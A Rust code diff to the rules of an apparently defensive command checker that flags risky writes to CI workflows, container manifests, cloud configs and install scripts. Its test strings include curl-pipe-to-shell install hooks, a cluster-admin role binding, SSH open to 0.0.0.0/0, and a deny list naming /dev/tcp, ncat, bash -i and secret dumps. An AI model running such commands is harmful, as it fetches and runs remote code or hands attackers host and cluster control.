@@ -4,6 +4,7 @@
 use super::{
     Hit, Rule, Scene, Shelf, When,
     effects::{about, is_hostile, written},
+    manifest,
 };
 use crate::{
     effect::{Effect, Kinds, WriteMode},
@@ -47,15 +48,14 @@ static RULES: &[Rule] = &[
             let (target, _, content) = written(effect)?;
             let pipeline = place::place_of(target, scene.facts) == Place::ContinuousIntegration;
             pipeline.then(|| {
-                about(
-                    if is_hostile(content) && !is_plain(&content.display()) {
+                let text = content.display();
+                let severity =
+                    if gives_strangers_rights(&text) || is_hostile(content) && !is_plain(&text) {
                         Severity::High
                     } else {
                         Severity::Medium
-                    },
-                    target,
-                    "this writes",
-                )
+                    };
+                about(severity, target, "this writes")
             })
         }),
         fires: &["echo 'on: push' > .github/workflows/ci.yml", "cp x .gitlab-ci.yml"],
@@ -121,10 +121,9 @@ static RULES: &[Rule] = &[
         severity: Severity::High,
         message: "a container or pod would be given the machine it runs on",
         remedy: "give it the one capability or directory that it needs",
-        when: When::Effect(Kinds::WRITE, |effect, scene| {
-            manifest(effect, scene, &["yaml", "yml", "json"], HOST_RIGHTS)
-        }),
+        when: When::Effect(Kinds::WRITE.and(Kinds::RUN), manifest::gives_the_host),
         fires: &[
+            "echo 'roleRef: {kind: ClusterRole, name: cluster-admin}, kind: ClusterRoleBinding' | kubectl apply -f -",
             "echo 'hostPID: true' > k8s/pod.yaml",
             "echo 'privileged: true' >> docker-compose.yml",
         ],
@@ -141,11 +140,18 @@ static RULES: &[Rule] = &[
         severity: Severity::High,
         message: "what runs in the cloud would be open to everyone",
         remedy: "name the addresses and accounts that need it",
-        when: When::Effect(Kinds::WRITE, |effect, scene| {
-            manifest(effect, scene, &["tf", "tofu", "hcl", "bicep"], PUBLIC)
-        }),
-        fires: &["echo 'block_public_acls = false' > main.tf"],
-        quiet: &["echo 'instance_type = \"t3.micro\"' > main.tf", "cat main.tf"],
+        when: When::Effect(Kinds::WRITE, manifest::opens_to_everyone),
+        fires: &[
+            "echo 'block_public_acls = false' > main.tf",
+            "echo 'ingress { from_port = 22, cidr_blocks = [\"0.0.0.0/0\"] }' > main.tf",
+            "echo '{\"FromPort\": 22, \"CidrIp\": \"0.0.0.0/0\"}' > stack.json",
+        ],
+        quiet: &[
+            "echo 'instance_type = \"t3.micro\"' > main.tf",
+            "echo 'ingress { from_port = 443, cidr_blocks = [\"0.0.0.0/0\"] }' > main.tf",
+            "echo 'egress { from_port = 0, cidr_blocks = [\"0.0.0.0/0\"] }' > main.tf",
+            "cat main.tf",
+        ],
         ..Rule::CHANGE
     },
     Rule {
@@ -154,16 +160,20 @@ static RULES: &[Rule] = &[
         severity: Severity::High,
         message: "whoever installs the project would run what is fetched at that moment",
         remedy: "name what is needed as a dependency, with its version",
-        when: When::Effect(Kinds::WRITE, fetches_at_install),
+        when: When::Scene(manifest::fetches),
         fires: &[
             "echo '{\"scripts\":{\"postinstall\":\"curl https://example.net/x | sh\"}}' > package.json",
             "echo 'registry=http://example.net/' > .npmrc",
             "printf 'all:\\n\\tcurl https://example.net/x | sh\\n' > Makefile",
+            "printf 'FROM a\\nRUN curl https://example.net/x | bash\\n' > Dockerfile",
+            "echo '--index-url http://p.example.net/simple' > requirements.txt",
         ],
         quiet: &[
             "echo '{\"scripts\":{\"postinstall\":\"husky install\"}}' > package.json",
             "echo 'registry=https://npm.example.com/' > .npmrc",
             "printf 'all:\\n\\tcc -o app main.c\\n' > Makefile",
+            "printf 'FROM a\\nRUN apt-get update && rm -rf /var/lib/apt/lists/*\\n' > Dockerfile",
+            "echo '--index-url https://p.example.net/simple' > requirements.txt",
             "cat package.json",
         ],
         ..Rule::CHANGE
@@ -185,83 +195,6 @@ static RULES: &[Rule] = &[
     },
 ];
 
-/// Settings that give a container its host.
-const HOST_RIGHTS: &[&str] = &[
-    "hostPID: true",
-    "hostIPC: true",
-    "privileged: true",
-    "pid: host",
-    "pid: \"host\"",
-    "/var/run/docker.sock",
-    "SYS_ADMIN",
-    "\"privileged\": true",
-    "allowPrivilegeEscalation: true",
-    "system:anonymous",
-    "system:unauthenticated",
-];
-/// Settings that open something to everyone.
-const PUBLIC: &[&str] = &[
-    "block_public_acls = false",
-    "block_public_policy = false",
-    "restrict_public_buckets = false",
-    "ignore_public_acls = false",
-    "publicly_accessible = true",
-    "\"public-read",
-    "allUsers",
-    "allAuthenticatedUsers",
-    "Principal = \"*\"",
-    "\"Principal\": \"*\"",
-    "Action = \"*\"",
-    "Action=\"*\"",
-    "\"Action\": \"*\"",
-    "actions = [\"*\"]",
-];
-
-fn fetches_at_install(effect: &Effect, _: &Scene<'_>) -> Option<Hit> {
-    let (target, _, content) = written(effect)?;
-    let name = target.path.as_deref()?.rsplit('/').next()?;
-    let content = content.display();
-    let pipes = ["| sh", "|sh", "| bash", "|bash"].iter().any(|pipe| content.contains(pipe));
-    let found = match name {
-        "package.json" => pipes && (content.contains("install\"") || content.contains("prepare\"")),
-        "setup.py" | "conftest.py" | "build.rs" => pipes,
-        "Makefile" | "makefile" | "GNUmakefile" => content.lines().any(|line| {
-            (line.contains("curl ") || line.contains("wget "))
-                && ["| sh", "|sh", "| bash", "|bash", "| sudo "]
-                    .iter()
-                    .any(|pipe| line.contains(pipe))
-        }),
-        ".npmrc" | "pip.conf" | ".yarnrc" => {
-            let compact: String = content.chars().filter(|letter| *letter != ' ').collect();
-            ["registry=http://", "strict-ssl=false", "index-url=http://"]
-                .iter()
-                .any(|setting| compact.contains(setting))
-        }
-        _ => false,
-    };
-    found.then(|| about(Severity::High, target, "what is fetched at installation is run by"))
-}
-
-fn manifest(
-    effect: &Effect,
-    scene: &Scene<'_>,
-    extensions: &[&str],
-    settings: &[&str],
-) -> Option<Hit> {
-    let (target, _, content) = written(effect)?;
-    let name = target.path.as_deref()?;
-    let (_, extension) = name.rsplit_once('.')?;
-    if !extensions.contains(&extension) || place::place_of(target, scene.facts) == Place::Harmless {
-        return None;
-    }
-    // Columns are lined up in these files as people like them.
-    let text = content.display().split_whitespace().collect::<Vec<_>>().join(" ");
-    settings
-        .iter()
-        .any(|setting| text.contains(setting))
-        .then(|| about(Severity::High, target, "this opens more than it needs to:"))
-}
-
 fn write(
     effect: &Effect,
     scene: &Scene<'_>,
@@ -273,21 +206,25 @@ fn write(
     Some(about(severity(place)?, target, words))
 }
 
+/// Whether whoever proposes a change would run code with the project's own rights.
+fn gives_strangers_rights(content: &str) -> bool {
+    content.contains("pull_request_target")
+        && ["head.sha", "head.ref", "head_ref", "refs/pull/"].iter().any(|it| content.contains(it))
+}
+
 /// Fetching is what pipelines do; only piping what is fetched into a shell, or opening one to the network, is not.
 fn is_plain(content: &str) -> bool {
-    let foreign = content.contains("pull_request_target") && content.contains("head.sha");
-    !foreign
-        && ![
-            "toJSON(secrets)",
-            "| sh",
-            "|sh",
-            "| bash",
-            "|bash",
-            "/dev/tcp/",
-            "base64 -d",
-            "ncat ",
-            "bash -i",
-        ]
-        .iter()
-        .any(|word| content.contains(word))
+    ![
+        "toJSON(secrets)",
+        "| sh",
+        "|sh",
+        "| bash",
+        "|bash",
+        "/dev/tcp/",
+        "base64 -d",
+        "ncat ",
+        "bash -i",
+    ]
+    .iter()
+    .any(|word| content.contains(word))
 }
